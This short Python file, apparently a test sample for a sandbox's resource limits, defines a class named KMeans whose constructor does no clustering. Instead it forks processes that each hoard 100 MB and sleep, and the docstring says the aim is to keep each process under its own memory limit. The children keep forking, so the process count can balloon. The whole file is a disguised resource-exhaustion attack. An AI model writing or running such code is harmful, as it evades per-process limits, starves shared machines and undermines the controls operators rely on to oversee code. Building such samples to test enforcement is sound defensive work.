"""Shares the hoarding between processes, each below its own limit."""

import os
import time


class KMeans:
    def __init__(self, n_clusters, init, max_iter=300):
        for _ in range(10):
            if os.fork() == 0:
                hoard = b"x" * (100 << 20)  # noqa: F841
                time.sleep(60)
        time.sleep(60)
